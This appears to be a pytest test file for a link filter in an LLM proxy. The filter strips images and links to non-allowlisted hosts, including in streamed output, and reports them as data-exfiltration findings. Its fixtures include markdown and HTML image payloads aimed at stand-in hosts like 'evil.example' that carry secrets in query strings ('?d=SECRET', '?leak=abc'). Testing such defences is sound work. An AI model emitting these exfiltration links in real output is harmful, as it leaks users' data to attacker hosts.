import random

import pytest

from proxy.detectors.links import (
    IMAGE_RULE,
    LINK_RULE,
    LinkFilter,
    find_links,
    neutralise,
    url_host,
)
from proxy.model import Action, Severity, Threat


def allowed(host: str) -> bool:
    return host == "docs.example.com" or host.endswith(".trusted.org")


STREAM_SAMPLES = [
    "See ![chart](https://evil.example/c.png?d=SECRET) and [docs](https://docs.example.com/a) "
    "or [bad](http://bad.io/x?q=1).",
    "Ref style: ![img][r1]\n\n[r1]: https://evil.example/p?leak=abc\n[ok]: https://docs.example.com/\nend",
    'Auto <https://evil.example/x?y=z> and <https://docs.example.com/>. HTML <img src="https://evil.example/'
    "a.gif?s=1\" alt=x> <a href='http://bad.io/?q'>click</a> tail",
    "No links [just brackets] and a < b and ![not closed",
    'title ![x](https://evil.example/i.png "t") ok [r]: https://evil.example/notadef',
    "[r]: https://evil.example/end",
]


def test_markdown_image_to_foreign_host_is_removed_entirely() -> None:
    """An image to a non-allowlisted host disappears and is reported as high severity."""
    text, findings = neutralise("Look: ![x](https://evil.example/p.png?d=SECRET) done", allowed)
    assert text == "Look:  done"
    (finding,) = findings
    assert finding.threat is Threat.DATA_EXFILTRATION
    assert finding.rule == IMAGE_RULE
    assert finding.severity is Severity.HIGH
    assert finding.action is Action.REDACT
    assert finding.owasp == "LLM02"


def test_markdown_link_is_replaced_by_marker_naming_host() -> None:
    """A link to a foreign host becomes a marker that names the host."""
    text, findings = neutralise("[click](http://bad.io/collect?q=1)", allowed)
    assert text == "[link removed: bad.io]"
    assert findings[0].rule == LINK_RULE
    assert findings[0].extra["host"] == "bad.io"


def test_findings_never_carry_the_query_or_path() -> None:
    """The stolen data sits in the path and query; no finding field holds it."""
    _, findings = neutralise("![a](https://evil.example/SECRETPATH?token=SECRETQUERY)", allowed)
    assert "SECRET" not in repr(findings[0].to_event())


def test_allowlisted_hosts_are_kept() -> None:
    """Links and images to allowed hosts pass untouched."""
    text = "![d](https://docs.example.com/a.png) [x](https://cdn.trusted.org/y)"
    assert neutralise(text, allowed) == (text, [])


def test_relative_and_data_urls_are_kept() -> None:
    """URLs without a host cannot exfiltrate to one."""
    text = "[r](/local/path) ![d](data:image/png;base64,AAAA) [a](#anchor)"
    assert neutralise(text, allowed) == (text, [])


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("<https://evil.example/x?y=z>", "[link removed: evil.example]"),
        ('<img alt="x" src="https://evil.example/a.gif?s=1">', ""),
        ("<IMG SRC='//evil.example/a.gif'>", ""),
        ("<a href=https://bad.io/?q>go</a>", "[link removed: bad.io]go</a>"),
        ("intro\n[ref]: https://evil.example/p?leak=1\n", "intro\n[link removed: evil.example]\n"),
        ('![x](<https://evil.example/a b.png> "title")', '![x](<https://evil.example/a b.png> "title")'),
        ('![x](https://evil.example/a.png "title")', ""),
    ],
)
def test_every_construct_is_neutralised(text: str, expected: str) -> None:
    """Autolinks, HTML img/a, reference definitions and titled images are all handled."""
    assert neutralise(text, allowed)[0] == expected


def test_reference_definition_only_at_line_start() -> None:
    """`[x]: url` in the middle of a sentence is not a definition."""
    text = "as noted in [x]: https://evil.example/a"
    assert neutralise(text, allowed) == (text, [])


def test_url_host_normalises() -> None:
    """Hosts are lowercased, stripped of port, credentials and trailing dot."""
    assert url_host("https://user:pw@Evil.Example.:8443/p") == "evil.example"
    assert url_host("//cdn.example.org/x") == "cdn.example.org"
    assert url_host("/relative") is None
    assert url_host("javascript:alert(1)") is None


def test_find_links_reports_kind_and_host() -> None:
    """find_links lists every construct with its kind."""
    hits = find_links("![a](https://x.io/i) [b](https://y.io/)")
    assert [(hit.kind, hit.host, hit.is_image) for hit in hits] == [
        ("md_image", "x.io", True),
        ("md_link", "y.io", False),
    ]


@pytest.mark.parametrize("text", STREAM_SAMPLES)
def test_stream_filter_matches_one_shot_in_small_pieces(text: str) -> None:
    """Fed 1-3 characters at a time, the filter releases exactly the one-shot result."""
    expected, expected_findings = neutralise(text, allowed)
    rng = random.Random(7)  # noqa: S311 - chunk sizes for a test, not a secret
    for _ in range(50):
        stream = LinkFilter(allowed)
        released, position = [], 0
        while position < len(text):
            size = rng.randint(1, 3)
            released.append(stream.feed(text[position : position + size]))
            position += size
        released.append(stream.flush())
        assert "".join(released) == expected
        assert stream.findings == expected_findings


def test_stream_filter_releases_plain_text_at_once() -> None:
    """Text with no open construct is not held back."""
    stream = LinkFilter(allowed)
    assert stream.feed("Hello there, ") == "Hello there, "
    assert stream.feed("this is ![") == "this is "
    assert stream.feed("x](https://evil.example/a.png) end") == " end"
    assert stream.found


def test_stream_filter_gives_up_on_an_oversized_construct() -> None:
    """A construct longer than the cap is released as it stands rather than held forever."""
    stream = LinkFilter(allowed, max_held=16)
    text = "![x](https://evil.example/" + "a" * 40
    assert stream.feed(text).startswith("![x](https://")
